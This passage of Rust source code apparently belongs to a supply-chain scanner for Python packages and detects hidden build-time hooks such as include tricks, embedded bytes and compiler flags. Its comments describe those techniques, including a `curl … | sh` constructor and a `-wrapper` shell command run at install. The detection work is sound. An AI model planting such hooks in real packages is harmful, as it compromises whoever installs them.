/// The text of a Meson list from `rest` up to its closing `)` or `]` at
/// depth 0, or [`BUILD_COMMAND_BYTES`]: strings (`'…'`) and comments
/// skipped over.
fn meson_list(rest: &[u8]) -> &[u8] {
    let end = rest.len().min(BUILD_COMMAND_BYTES);
    let mut depth = 0usize;
    let mut i = 0;
    while i < end {
        match rest[i] {
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' if depth == 0 => return &rest[..i],
            b')' | b']' | b'}' => depth -= 1,
            b'#' => i += memchr::memchr(b'\n', &rest[i..end]).unwrap_or(end - i),
            b'\'' => {
                i += 1;
                while i < end && rest[i] != b'\'' {
                    i += if rest[i] == b'\\' { 2 } else { 1 };
                }
            }
            _ => {}
        }
        i += 1;
    }
    &rest[..end]
}

/// A Meson list's text without its comments, which [`split_arguments`]
/// would read as code (an apostrophe in `# don't` as a string's start).
fn meson_code(list: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(list.len());
    let mut i = 0;
    while i < list.len() {
        match list[i] {
            b'#' => {
                i += memchr::memchr(b'\n', &list[i..]).unwrap_or(list.len() - i);
                continue;
            }
            b'\'' => {
                let start = i;
                i += 1;
                while i < list.len() && list[i] != b'\'' {
                    i += if list[i] == b'\\' { 2 } else { 1 };
                }
                out.extend_from_slice(&list[start..(i + 1).min(list.len())]);
            }
            b => out.push(b),
        }
        i += 1;
    }
    out
}

/// A Meson command's arguments as tokens, the first as its program.
fn meson_command<'a>(args: impl IntoIterator<Item = &'a [u8]>) -> Vec<Token> {
    args.into_iter()
        .enumerate()
        .flat_map(|(i, a)| meson_tokens(a, i == 0))
        .collect()
}

/// One argument of a Meson command as tokens: a string's words (a path
/// with a `/` as the program it could be), the paths of `files(…)`, the
/// program `find_program(…)` names, a path built from strings
/// (`join_paths(…, 'docs', 'x.txt')`) as that path, and anything else (a
/// variable) as an interpreter when it is the `program`, since what it
/// runs cannot be known here, or as code after it: numpy's vendored
/// Meson tests give `[genprog, scriptfile, files('../dummy.dat')]`, the
/// data file a script's argument.
fn meson_tokens(arg: &[u8], program: bool) -> Vec<Token> {
    let (pieces, other_code) = literals(arg);
    let path = |p: &str| {
        if p.contains('/') && !p.starts_with("./") && !p.starts_with("../") && !p.starts_with('/') {
            format!("./{p}")
        } else {
            p.to_string()
        }
    };
    let word = |w: &str| {
        if interpreter(w) {
            Token::Interpreter
        } else {
            Token::Word(path(w))
        }
    };
    let call = |name: &[u8]| arg.trim_ascii_start().starts_with(name);
    if pieces.is_empty() {
        return vec![if program {
            Token::Interpreter
        } else {
            Token::Code
        }];
    }
    if !other_code {
        let line: Vec<&str> = pieces.iter().map(|(p, _)| p.as_str()).collect();
        return line.join(" ").split_ascii_whitespace().map(word).collect();
    }
    if call(b"files") {
        return pieces
            .iter()
            .map(|(p, _)| Token::Word(format!("./{}", p.trim_start_matches("./"))))
            .collect();
    }
    if call(b"find_program") {
        return vec![word(&pieces[0].0)];
    }
    joined(&pieces).map_or(Vec::new(), |j| vec![Token::Word(j)])
}

/// Each of the first [`MAX_BUILD_PATHS`] `(from_root, target)` of the file
/// at `path`, resolved from the project's root (`from_root`) or else from
/// the file's folder and from the root, in order, each once.
fn resolve_each(path: &str, found: impl IntoIterator<Item = (bool, String)>) -> Vec<String> {
    let dir = path.rsplit_once('/').map_or("", |(d, _)| d);
    let root = path.split_once('/').map_or("", |(r, _)| r);
    let mut seen = std::collections::HashSet::new();
    found
        .into_iter()
        .take(MAX_BUILD_PATHS)
        .flat_map(|(from_root, target)| {
            let from = if from_root { [root, root] } else { [dir, root] };
            from.into_iter()
                .filter_map(move |base| super::render::resolve_from(base, &target))
        })
        .filter(|full| seen.insert(full.clone()))
        .collect()
}

/// Extensions of source files a build compiles into the package's native
/// code (C, C++, Objective-C, Cython, Rust, Go, Fortran, assembly, CUDA,
/// and their headers), lowercased.
const COMPILED_SOURCE: &[&str] = &[
    "c", "cc", "cpp", "cxx", "c++", "h", "hh", "hpp", "hxx", "m", "mm", "pyx", "pxd", "pxi", "rs",
    "go", "f", "f90", "f95", "for", "s", "asm", "cu", "cuh",
];

/// Whether a file with this (lowercased) name is a source a build compiles
/// ([`COMPILED_SOURCE`]).
pub fn is_compiled_source(lower_name: &str) -> bool {
    COMPILED_SOURCE.contains(&extension(lower_name))
}

/// The language a compiled source is read in for the files it includes
/// ([`source_includes`]) and the programs it runs
/// (`unread::native_runs_built_command`), by its (lowercased) name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum SourceLanguage {
    /// C, C++, Objective-C and CUDA, and their headers.
    C,
    Cython,
    Rust,
    /// Fortran, whose `include 'FILE'` is read, and whose preprocessed
    /// sources (`.F90`) include by C's `#include` too.
    Fortran,
    /// Assembly (GNU as's `.s`, and `.S`, which the C preprocessor reads
    /// first; NASM's `.asm`).
    Assembly,
}

pub(super) fn source_language(lower_name: &str) -> Option<SourceLanguage> {
    match extension(lower_name) {
        "c" | "cc" | "cpp" | "cxx" | "c++" | "h" | "hh" | "hpp" | "hxx" | "m" | "mm" | "cu"
        | "cuh" => Some(SourceLanguage::C),
        "pyx" | "pxi" | "pxd" => Some(SourceLanguage::Cython),
        "rs" => Some(SourceLanguage::Rust),
        "f" | "f90" | "f95" | "for" => Some(SourceLanguage::Fortran),
        "s" | "asm" => Some(SourceLanguage::Assembly),
        _ => None,
    }
}

/// The source files (archive paths, resolved, not checked to exist; a
/// `*` or `?` kept as written, for the caller to match) that `data`, a
/// root `setup.py` or `pyproject.toml`, or a build script or `Cargo.toml`
/// outside a test tree, names by a literal path: any quoted string, for
/// CMake any bare word, that ends in a compiled source's extension
/// ([`is_compiled_source`]), and for Cargo every path it builds
/// ([`cargo_sources`]) whatever its name, from the file's folder and from
/// the root; and for a compiled source outside a test tree, the files it
/// includes as more of its code ([`source_includes`]). Cargo compiles and runs a build script named
/// `docs/notes.txt` as readily as `build.rs` (checked with cargo 1.9x,
/// session 44), so a document there is code the build runs.
/// `Extension('m', sources=['tests/data/speed.c'])` compiles a test tree's
/// C file into the package, and a constructor in it runs at import: read
/// as test data, the veto never saw its `system("curl … | sh")` (vetoed at
/// 0.19 in `src/`; session 31). A test tree's own build script naming its
/// sources is the normal case, and counts only when the build runs it
/// ([`run_by_build`]); a `setup.py` in a subfolder is a fixture's.
pub fn compiled_sources(path: &str, data: &[u8]) -> Vec<String> {
    let lower = file_name(path).1;
    if is_compiled_source(&lower) && !super::render::in_test_tree(path) {
        if cargo_leaves_unbuilt(path, &lower) {
            return Vec::new();
        }
        return resolve_each(path, source_includes(&lower, data));
    }
    let build = build_script(&lower);
    let cmake = build == Some(Build::CMake);
    let manifest =
        matches!(lower.as_str(), "setup.py" | "pyproject.toml") && path.matches('/').count() <= 1;
    let script = matches!(build, Some(Build::CMake | Build::Meson | Build::Gyp));
    let cargo = lower == "cargo.toml";
    if !(manifest || script || cargo) || super::render::in_test_tree(path) {
        return Vec::new();
    }
    use std::borrow::Cow;
    let mut words: Vec<Cow<str>> = if cargo {
        cargo_sources(data).into_iter().map(Cow::Owned).collect()
    } else {
        quoted_strings(data)
            .into_iter()
            .map(Cow::Borrowed)
            .collect()
    };
    if cmake {
        words.extend(
            data.split(|b| b.is_ascii_whitespace() || b"()\"'".contains(b))
                .filter_map(|w| std::str::from_utf8(w).ok())
                .map(Cow::Borrowed),
        );
    }
    // A root manifest's `Cargo.toml` is the crate its build compiles
    // (maturin's `manifest-path`, setuptools-rust's `RustExtension(path=…)`),
    // and Cargo runs that crate's `build.rs` first.
    let named = words
        .into_iter()
        .filter(|w| {
            let name = file_name(w).1;
            !w.contains('$')
                && (cargo || is_compiled_source(&name) || (manifest && name == "cargo.toml"))
        })
        .map(|w| (false, w.into_owned()));
    resolve_each(path, named)
}

/// The Rust sources a `Cargo.toml` (`data`) builds from paths it names:
/// the build script (`[package] build = "…"`, which Cargo compiles and
/// runs before the crate, as maturin and setuptools-rust do when pip builds
/// the package), the library's and each binary's `path`. Test, bench and
/// example targets are not built by an install, so their paths do not
/// count.
fn cargo_sources(data: &[u8]) -> Vec<String> {
    let Some(table) = super::fetched::toml_table(data) else {
        return Vec::new();
    };
    let mut paths: Vec<String> = Vec::new();
    let text = |v: Option<&toml::Value>| v.and_then(|v| v.as_str()).map(str::to_string);
    paths.extend(text(table.get("package").and_then(|p| p.get("build"))));
    paths.extend(text(table.get("lib").and_then(|l| l.get("path"))));
    if let Some(bins) = table.get("bin").and_then(|b| b.as_array()) {
        paths.extend(bins.iter().filter_map(|b| text(b.get("path"))));
    }
    paths
}

/// The strings quoted with `'` or `"` on one line of `data`, at most 512
/// bytes each.
fn quoted_strings(data: &[u8]) -> Vec<&str> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(at) = memchr::memchr2(b'\'', b'"', &data[i..]) {
        let open = i + at;
        let q = data[open];
        let rest = &data[open + 1..data.len().min(open + 513)];
        let line = memchr::memchr(b'\n', rest).unwrap_or(rest.len());
        match memchr::memchr(q, &rest[..line]) {
            Some(len) => {
                if let Ok(s) = std::str::from_utf8(&rest[..len]) {
                    out.push(s);
                }
                i = open + 1 + len + 1;
            }
            None => i = open + 1,
        }
    }
    out
}

/// Each `(` in `data` right after the command `name` (as a whole word, in
/// any case; blanks between allowed), as the offset just past it.
fn command_calls<'a>(data: &'a [u8], name: &'a [u8]) -> impl Iterator<Item = usize> + 'a {
    memchr::memchr_iter(b'(', data).filter_map(move |open| {
        let mut end = open;
        while end > 0 && matches!(data[end - 1], b' ' | b'\t') {
            end -= 1;
        }
        let start = end.checked_sub(name.len())?;
        let whole = start == 0 || !(is_word_byte(data[start - 1]) || data[start - 1] == b'-');
        (whole && data[start..end].eq_ignore_ascii_case(name)).then_some(open + 1)
    })
}

/// The first argument of a CMake command whose arguments start at `rest`:
/// quoted, or unquoted up to a blank, `)` or a comment.
fn cmake_first_argument(rest: &[u8]) -> Option<&str> {
    // Searches stay within 512 bytes: a file of unclosed quotes would
    // otherwise cost its size at each call.
    let rest = &rest[..rest.len().min(512)];
    let rest = rest.trim_ascii_start();
    let arg = match rest.first() {
        Some(b'"') => &rest[1..1 + memchr::memchr(b'"', &rest[1..])?],
        _ => {
            let len = rest
                .iter()
                .take_while(|b| !b.is_ascii_whitespace() && !matches!(b, b')' | b'"' | b'#'))
                .count();
            &rest[..len]
        }
    };
    std::str::from_utf8(arg).ok()
}

/// The files CMake's `include(…)`, `add_subdirectory(…)` and
/// `install(SCRIPT …)` calls in `data` run: (whether the path is from the
/// project's root, the path).
fn cmake_paths(data: &[u8]) -> Vec<(bool, String)> {
    let mut out = Vec::new();
    // `install(SCRIPT FILE)`: CMake runs the file as a script when the
    // project installs, which scikit-build-core does to make the wheel
    // (`docs/notes.txt` so ran at `pip wheel`, session 44).
    for at in command_calls(data, b"install") {
        let args = cmake_arguments(&data[at..]);
        for pair in args.windows(2).filter(|p| p[0] == "SCRIPT") {
            if let Token::Word(file) = cmake_token(&pair[1]) {
                if !file.contains('$') {
                    out.push((false, file));
                }
            }
        }
    }
    let calls = command_calls(data, b"include")
        .map(|at| (at, false))
        .chain(command_calls(data, b"add_subdirectory").map(|at| (at, true)));
    for (at, subdirectory) in calls {
        let Some(arg) = cmake_first_argument(&data[at..]) else {
            continue;
        };
        let (from_root, file) = [
            ("${CMAKE_CURRENT_SOURCE_DIR}/", false),
            ("${CMAKE_CURRENT_LIST_DIR}/", false),
            ("${CMAKE_SOURCE_DIR}/", true),
            ("${PROJECT_SOURCE_DIR}/", true),
        ]
        .iter()
        .find_map(|(var, root)| arg.strip_prefix(var).map(|f| (*root, f)))
        .unwrap_or((false, arg));
        if file.is_empty() || file.contains('$') {
            continue;
        }
        if subdirectory {
            out.push((
                from_root,
                format!("{}/CMakeLists.txt", file.trim_end_matches('/')),
            ));
        } else if file.contains('/') || file.contains('.') {
            out.push((from_root, file.to_string()));
        }
    }
    out
}

/// The scripts of the folders Meson's `subdir('DIR')` calls in `data`
/// build: (false, `DIR/meson.build`).
fn meson_subdirs(data: &[u8]) -> Vec<(bool, String)> {
    let mut out = Vec::new();
    for at in command_calls(data, b"subdir") {
        let rest = &data[at..data.len().min(at + 512)];
        let rest = rest.trim_ascii_start();
        // A folder named by a literal, not by a call (`get_option('d')`).
        if !matches!(rest.first(), Some(b'\'' | b'"')) {
            continue;
        }
        let close = memchr::memchr(b')', rest).unwrap_or(rest.len());
        if let Some((dir, true)) = literals(&rest[..close]).0.into_iter().next() {
            if !dir.is_empty() {
                out.push((false, format!("{}/meson.build", dir.trim_end_matches('/'))));
            }
        }
    }
    out
}

/// The files a compiled source (by its lowercase name `lower`) includes
/// as more of its own code, whatever their names: C's, C++'s and
/// Objective-C's `#include "FILE"` (and `#import`, `#include_next`), which
/// looks beside the source first; Cython's `include "FILE"`; Rust's
/// `include!("FILE")`. cachetools with a C extension whose source did
/// `#include "../../docs/notes.txt"`, the notes holding a constructor that
/// ran a command, ran it at import, and the shipped gate allowed it
/// (session 46): the notes were read as a document. Read as the sources a
/// build compiles ([`compiled_sources`]): a document among them is code no
/// reader saw, a test tree's file is compiled into the package though the
/// models read it as a test's. Rust's `#[path = "FILE"]` on a module
/// too: a crate whose `lib.rs` held `#[path = "../docs/notes.txt"] mod
/// notes;` ran the notes' command at import (maturin 1.16, session 48).
/// Fortran's `include 'FILE'` (in any case), which gfortran looks up
/// beside the source first.
/// `#include <…>`, looked up in the folders the build adds to the
/// search, and Rust's `include!(concat!(…))` are matched by name instead
/// ([`searched_includes`]).
fn source_includes(lower: &str, data: &[u8]) -> Vec<(bool, String)> {
    static C: OnceLock<Regex> = OnceLock::new();
    static CYTHON: OnceLock<Regex> = OnceLock::new();
    static RUST: OnceLock<Regex> = OnceLock::new();
    static FORTRAN: OnceLock<Regex> = OnceLock::new();
    let re = match source_language(lower) {
        // Without `^`: a pattern that starts with a directive's words is
        // searched by them; that only blanks precede the `#` is checked
        // after.
        Some(SourceLanguage::C) => C.get_or_init(|| {
            Regex::new(r#"#[ \t]*(?:include|include_next|import)[ \t]*"([^"\n]+)""#)
                .expect("the C include pattern compiles")
        }),
        Some(SourceLanguage::Cython) => CYTHON.get_or_init(|| {
            Regex::new(r#"(?m)^[ \t]*include[ \t]+["']([^"'\n]+)["']"#)
                .expect("the Cython include pattern compiles")
        }),
        // `include!("FILE")`, and a module's `#[path = "FILE"]` (also
        // under `cfg_attr`), which compiles that file as the module.
        Some(SourceLanguage::Rust) => RUST.get_or_init(|| {
            Regex::new(
                r#"\binclude!\s*\(\s*"([^"\n]+)"\s*,?\s*\)|#\s*\[\s*(?:cfg_attr\s*\([^\]\n]*?,\s*)?path\s*=\s*"([^"\n]+)""#,
            )
            .expect("the Rust include pattern compiles")
        }),
        Some(SourceLanguage::Fortran) => FORTRAN.get_or_init(|| {
            Regex::new(r#"(?mi)^[ \t]*include[ \t]*["']([^"'\n]+)["']"#)
                .expect("the Fortran include pattern compiles")
        }),
        Some(SourceLanguage::Assembly) | None => return Vec::new(),
    };
    re.captures_iter(data)
        .filter(|c| at_line_start(data, c.get(0).map_or(0, |m| m.start())))
        // A module only rustdoc compiles is not built: shlex (vendored by
        // orjson) takes its `quoting_warning` module, all comments, from
        // a `.md` under `#[cfg(all(doc, not(doctest)))]`.
        .filter(|c| {
            c.get(2).is_none() || !for_rustdoc_only(data, c.get(0).map_or(0, |m| m.start()))
        })
        .filter_map(|c| c.get(1).or_else(|| c.get(2)))
        .filter_map(|m| std::str::from_utf8(m.as_bytes()).ok().map(str::to_string))
        .map(|p| (false, p))
        .collect()
}

/// Whether the Rust item whose attribute starts at `at` is compiled for
/// documentation only: an attribute of its (on the lines of attributes
/// just before it, or before it on its line) is `#[cfg(doc)]` or
/// `#[cfg(all(doc, …))]`.
fn for_rustdoc_only(data: &[u8], at: usize) -> bool {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(r"#\s*\[\s*cfg\s*\(\s*(?:all\s*\(\s*)?doc\s*[,)]")
            .expect("the rustdoc cfg pattern compiles")
    });
    // Its line up to it, then the attribute lines before it, at most
    // eight; a line that is not an attribute's alone (`#[cfg(doc)] mod
    // d;`) ends the item before.
    let mut lines = data[..at].rsplit(|&b| b == b'\n');
    let own = lines.next().unwrap_or_default();
    let attribute = |l: &&[u8]| {
        let l = l.trim_ascii();
        l.starts_with(b"#[") && l.ends_with(b"]")
    };
    re.is_match(own) || lines.take(8).take_while(attribute).any(|l| re.is_match(l))
}

/// The paths Rust's `include!(concat!(…))` builds from literals: the
/// string literals given to `concat!` itself, joined (`env!("…")`'s
/// name is not one of them). `include!(concat!(env!("CARGO_MANIFEST_DIR"),
/// "/docs/notes.txt"))` compiles the notes as Rust; a build script so
/// made ran a command the notes held at `pip wheel` (maturin 1.16), and
/// the shipped gate allowed it (session 48). The crate's folder is not
/// known here, so the path is a name to search ([`searched_includes`]).
fn rust_concat_includes(data: &[u8]) -> Vec<Vec<u8>> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(r"\binclude!\s*\(\s*concat!\s*\(").expect("the concat pattern compiles")
    });
    let mut out = Vec::new();
    for m in re.find_iter(data) {
        let rest = &data[m.end()..data.len().min(m.end() + 1024)];
        let (mut depth, mut at, mut joined) = (1usize, 0, Vec::new());
        while at < rest.len() && depth > 0 {
            match rest[at] {
                b'(' => depth += 1,
                b')' => depth -= 1,
                b'"' => {
                    let end =
                        memchr::memchr(b'"', &rest[at + 1..]).map_or(rest.len(), |e| at + 1 + e);
                    if depth == 1 {
                        joined.extend_from_slice(&rest[at + 1..end]);
                    }
                    at = end;
                }
                _ => {}
            }
            at += 1;
        }
        if !joined.is_empty() {
            out.push(joined);
        }
    }
    out
}

/// Whether only blanks precede `at` on its line in `data`.
fn at_line_start(data: &[u8], at: usize) -> bool {
    data[..at]
        .iter()
        .rev()
        .take_while(|b| **b != b'\n')
        .all(|b| *b == b' ' || *b == b'\t')
}

/// The names, lowercased, of the files a compiled source outside a test
/// tree includes from the folders its build adds to the search (C's
/// `#include <FILE>`, and `"FILE"`, looked up there when no file beside
/// the source has that name; Cython's `include "FILE"`, from its
/// `include_path`; Rust's `include!(concat!(…))`, from the crate's
/// folder, [`rust_concat_includes`]; Fortran's `include 'FILE'`, from its
/// `-I` folders; and what an assembler reads as more source,
/// [`assembled`]), each once, with `\` read as `/` (as Windows'
/// compilers do) and leading `./` and `../` dropped. Which folders
/// those are is set anywhere (`include_dirs=['docs']`,
/// `extra_compile_args=['-Idocs']`, `CFLAGS`, CMake's or Meson's
/// `include_directories`), so the caller matches each name, in any case,
/// against the end of every document's path
/// (`render::searched_documents`). A setuptools 65 package with
/// `include_dirs=['docs']` and `#include <notes.txt>`, the notes holding
/// a constructor that ran a command, ran it at import, and the shipped
/// gate allowed it (session 48): `source_includes` resolves a name
/// beside the source only.
pub fn searched_includes(path: &str, data: &[u8]) -> Vec<String> {
    compiled_source_names(path, data).0
}

/// A compiled source's [`searched_includes`] and
/// [`embedded_includes`], read in one pass over what its assembler reads
/// ([`assembled`]).
pub fn compiled_source_names(path: &str, data: &[u8]) -> (Vec<String>, Vec<String>) {
    let lower = file_name(path).1;
    if super::render::in_test_tree(path) || cargo_leaves_unbuilt(path, &lower) {
        return Default::default();
    }
    let Some(language) = source_language(&lower) else {
        return Default::default();
    };
    let written = |found: &[(bool, String)]| -> Vec<String> {
        found
            .iter()
            .filter_map(|(_, name)| include_name(name.as_bytes()))
            .collect()
    };
    let mut names: Vec<String> = match language {
        SourceLanguage::C => c_searched_includes(data),
        SourceLanguage::Cython => written(&source_includes(&lower, data)),
        SourceLanguage::Rust => rust_concat_includes(data)
            .iter()
            .filter_map(|p| include_name(p))
            .collect(),
        // `.F90` and `.S` pass through the C preprocessor first.
        SourceLanguage::Fortran => {
            let mut n = written(&source_includes(&lower, data));
            n.extend(c_searched_includes(data));
            n
        }
        SourceLanguage::Assembly => c_searched_includes(data),
    };
    // Inline assembly too: C's `__asm__(".include \"FILE\"")` and Rust's
    // `global_asm!`, whose assembler reads FILE as more of its source.
    let (source, mut bytes) = assembled(data);
    names.extend(source);
    // Cython holds no assembly (a `.incbin` there is a comment's or a
    // string's).
    if language == SourceLanguage::Cython {
        bytes.clear();
    }
    // A sort, not a hash set: a million names sort faster than they hash.
    for list in [&mut names, &mut bytes] {
        list.sort_unstable();
        list.dedup();
    }
    (names, bytes)
}

/// The names C's `#include "FILE"` and `#include <FILE>` (and
/// `#include_next`, `#import`) in `data` include, as [`include_name`]
/// keeps them. Found without captures (a source of a million includes is
/// read in a fraction of the time), the name taken between the match's
/// first `"` or `<` and its last byte.
fn c_searched_includes(data: &[u8]) -> Vec<String> {
    static C: OnceLock<Regex> = OnceLock::new();
    let re = C.get_or_init(|| {
        Regex::new(r#"#[ \t]*(?:include|include_next|import)[ \t]*(?:"[^"\n]+"|<[^>\n]+>)"#)
            .expect("the C include pattern compiles")
    });
    re.find_iter(data)
        .filter(|m| at_line_start(data, m.start()))
        .filter_map(|m| {
            let text = m.as_bytes();
            let open = text.iter().position(|b| matches!(b, b'"' | b'<'))?;
            include_name(&text[open + 1..text.len() - 1])
        })
        .collect()
}

/// The names, as [`include_name`] keeps them, of the files `data`, a
/// compiled source, hands its assembler or its compiler to read by name,
/// (those it takes as source, those it takes as bytes): GNU as's `.include "FILE"` and NASM's
/// `%include "FILE"`, read as more assembly source; `.incbin "FILE"` (also
/// NASM's `incbin`) and C23's `#embed "FILE"` or `<FILE>`, which put the
/// file's bytes into the object as they are; and Rust's
/// `global_asm!(include_str!("FILE"))` (also `asm!`, `naked_asm!`), which
/// assembles FILE. Inline assembly holds them in string literals, so a
/// quote may be escaped (`".incbin \"logo.png\""`). The assembler looks
/// FILE up from the folder the build runs in and the folders `-I` adds,
/// so each is a name to search. A setuptools 65 extension whose C source
/// held `__asm__(".include \"docs/notes.txt\"")`, the notes holding
/// assembly that ran a command from `.init_array`, ran it at import; one
/// whose `.incbin "docs/logo.png"` put machine code into `.text`, the
/// same; and the shipped gate allowed both (session 49).
fn assembled(data: &[u8]) -> (Vec<String>, Vec<String>) {
    static RE: OnceLock<Regex> = OnceLock::new();
    static RUST: OnceLock<Regex> = OnceLock::new();
    // Without captures, as C's includes are found
    // ([`c_searched_includes`]): the kind is the match's first byte, the
    // name what follows its first quote.
    let re = RE.get_or_init(|| {
        Regex::new(r#"(?:[.%]include|\bincbin|#[ \t]*embed)[ \t]*\\?["'<][^"'<>\\\n]+"#)
            .expect("the assembler include pattern compiles")
    });
    let (mut source, mut bytes) = (Vec::new(), Vec::new());
    for m in re.find_iter(data) {
        let text = m.as_bytes();
        // `incbin` and `#embed` take bytes, `.include` and `%include`
        // source. C's `#embed` is a directive, at a line's start; the
        // assembler's are anywhere, a string literal's text too.
        let to = match text[0] {
            b'#' if !at_line_start(data, m.start()) => continue,
            b'#' | b'i' => &mut bytes,
            _ => &mut source,
        };
        let open = text.iter().position(|b| matches!(b, b'"' | b'\'' | b'<'));
        to.extend(open.and_then(|o| include_name(&text[o + 1..])));
    }
    let rust = RUST.get_or_init(|| {
        Regex::new(r#"\b(?:global_asm|naked_asm|asm)!\s*\(\s*include_str!\s*\(\s*"([^"\n]+)""#)
            .expect("the Rust assembly include pattern compiles")
    });
    source.extend(
        rust.captures_iter(data)
            .filter_map(|c| c.get(1).and_then(|m| include_name(m.as_bytes()))),
    );
    (source, bytes)
}

/// The names, lowercased, of the files whose bytes a compiled source
/// outside a test tree puts into the object as they are (`.incbin`,
/// `#embed`, [`assembled`]), each once. Any shipped file whose path ends
/// in one counts (`render::embedded_files`): in `.text` its bytes are
/// machine code, which no reader of the text reads. No real package of
/// 775 (the held-out, training and calibration sdists, their previous
/// versions, the npm sample, the wheels and 20 Rust sdists) embeds a
/// file so (session 49). Rust's `include_bytes!` is not read: maturin,
/// uv and vendored crates embed JSON and tables with it, and running
/// them takes a `link_section` or a `transmute` the reader sees.
pub fn embedded_includes(path: &str, data: &[u8]) -> Vec<String> {
    compiled_source_names(path, data).1
}

/// What the compiler flags a build gives make the compiler do besides
/// compiling the package's sources ([`compiler_flags`]).
#[derive(Debug, Default, PartialEq, Eq)]
pub struct CompilerFlags {
    /// What a flag makes the compiler run, as a hook's description:
    /// `-wrapper`'s command, `-specs`' spec file.
    pub runs: Vec<String>,
    /// The names of the files `-include` and `-imacros` compile ahead of
    /// every source, as [`searched_includes`] keeps names.
    pub includes: Vec<String>,
    /// (the archive paths a flag may name, the flag as written, whether
    /// the compiler reads the file as more options (`@FILE`) or else runs
    /// it as one of its programs (`-B`)): the first that is a member
    /// counts.
    pub files: Vec<(Vec<String>, String, bool)>,
    /// Dependencies a Cargo configuration fetches from outside a
    /// registry ([`cargo_config`]).
    pub fetched: Vec<String>,
}

/// The programs GCC's driver looks for under a `-B` prefix before its
/// own: the preprocessor, compilers, assembler, linker, LTO helpers, and
/// the spec file it reads from there.
const GCC_PROGRAMS: [&str; 12] = [
    "as",
    "ld",
    "cc1",
    "cc1plus",
    "collect2",
    "lto-wrapper",
    "lto1",
    "cpp",
    "ld.bfd",
    "ld.gold",
    "real-ld",
    "specs",
];

/// The compiler flags a root manifest (`setup.py`, `setup.cfg`,
/// `pyproject.toml`), a Cargo build script or a build script outside a
/// test tree gives, wherever they lie in its text (`extra_compile_args`,
/// `CFLAGS`, CMake's `add_compile_options`, Meson's `c_args`, a
/// `-DCMAKE_C_FLAGS=…` in `cmake.args`), that make GCC or Clang run a
/// program or compile a file no source names: `-wrapper PROG,ARGS` runs
/// every program the driver starts through `PROG ARGS`; `-specs=FILE`
/// reads a spec file, whose rules can run any program; `-B PREFIX` runs
/// `PREFIX/as` (`ld`, `cc1`, …) in place of the toolchain's; `@FILE`
/// reads more options from FILE; `-include FILE` and `-imacros FILE`
/// compile FILE ahead of every source. setuptools 65 extensions built
/// with `extra_compile_args=['-wrapper', 'sh,-c,touch …;exec "$0"
/// "$@"']`, `['@docs/flags.txt']` (the flags holding that `-wrapper`),
/// `['-include', 'docs/notes.txt']` (the notes a constructor that ran a
/// command), or `['-Btests/bin/']` (`tests/bin/as` a script that ran one)
/// each ran the command at `pip install`, and the shipped gate allowed all
/// (session 49). No real package of 775 gives `-wrapper`, `-specs`,
/// `@FILE` naming a shipped file, or `-B` naming a shipped program in
/// such a file.
pub fn compiler_flags(path: &str, data: &[u8]) -> CompilerFlags {
    compiler_flags_in(&Code::new(path, data))
}

/// [`compiler_flags`] of a member read through `code`, whose manifest
/// parse and folded lines its rules share.
pub fn compiler_flags_in(code: &Code) -> CompilerFlags {
    let (path, data) = (code.path, code.data);
    let lower = file_name(path).1;
    let mut out = CompilerFlags::default();
    let read = matches!(
        lower.as_str(),
        "setup.py" | "setup.cfg" | "pyproject.toml" | "build.rs"
    ) || build_script(&lower).is_some();
    let presets = matches!(
        lower.as_str(),
        "cmakepresets.json" | "cmakeuserpresets.json"
    );
    if super::render::in_test_tree(path) {
        return out;
    }
    if is_cargo_config(path) {
        cargo_config(path, data, &mut out);
    }
    // The text as written, and as the tool reads it where that differs:
    // a TOML or JSON value or key spelled with escapes
    // (`-\u0077rapper`, `"CMAKE_C_COMPILER_LAUNCHE\u0052"`), a string
    // of Python, Meson or Rust in pieces or escapes (`"-\x77rapper"`,
    // `"-wrap" "per"`). Each rule reads the text as written first, and
    // the decoded forms only when it found nothing there: decoding never
    // hides what the text shows, and one hook is not named twice.
    let decoded = match read || presets {
        true => as_tool_reads(code, &lower),
        false => Vec::new(),
    };
    let texts = || std::iter::once(data).chain(decoded.iter().map(Vec::as_slice));
    if read {
        for text in texts() {
            let mut found = CompilerFlags::default();
            flags_in(path, text, &mut found);
            if found != CompilerFlags::default() {
                out.runs.extend(found.runs);
                out.includes.extend(found.includes);
                out.files.extend(found.files);
                break;
            }
        }
    }
    let mut first_found = |rule: fn(&[u8]) -> Vec<String>| {
        if let Some(found) = texts().map(rule).find(|f| !f.is_empty()) {
            out.runs.extend(found);
        }
    };
    if read || presets {
        first_found(compiler_launchers);
        first_found(cmake_programs);
    }
    if matches!(lower.as_str(), "setup.py" | "build.rs") {
        first_found(compiler_environment);
    }
    if lower == "pyproject.toml" {
        maturin_settings(code, &mut out);
    }
    if matches!(lower.as_str(), "pyproject.toml" | "setup.py") {
        setuptools_rust_settings(code, &lower, &mut out);
    }
    out.includes.sort_unstable();
    out.includes.dedup();
    out
}

/// The text of a manifest or build script (`code`) as its tool reads it,
/// when that differs from what is written: a `pyproject.toml` or
/// `setup.cfg` as its installer reads it
/// ([`super::fetched::manifest_as_read`]: TOML's escapes decoded,
/// `setup.cfg`'s interpolation done), and the file with each line's
/// string pieces and escapes folded ([`Code::folded_text`]: a CMake
/// preset's JSON escapes too, `\uXXXX` being JavaScript's). Empty when
/// nothing differs.
fn as_tool_reads(code: &Code, lower: &str) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    if matches!(lower, "pyproject.toml" | "setup.cfg") {
        out.extend(super::fetched::manifest_as_read(code).map(|read| read.text));
    }
    out.extend(code.folded_text());
    out
}

/// The compiler flags `data` (the text of the file at `path`) gives, into
/// `out` ([`compiler_flags`]).
fn flags_in(path: &str, data: &[u8], out: &mut CompilerFlags) {
    static FLAG: OnceLock<Regex> = OnceLock::new();
    static AT: OnceLock<Regex> = OnceLock::new();
    let flag = FLAG.get_or_init(|| {
        Regex::new(r#"(?:^|[\s"'\[(,=;{])(-wrapper|--?specs|-include|-imacros|-B)"#)
            .expect("the compiler flag pattern compiles")
    });
    for c in flag.captures_iter(data) {
        let Some(name) = c.get(1) else { continue };
        let Some(value) = flag_value(data, name.end()) else {
            continue;
        };
        let text = String::from_utf8_lossy(value);
        match name.as_bytes() {
            b"-wrapper" => out.runs.push(format!(
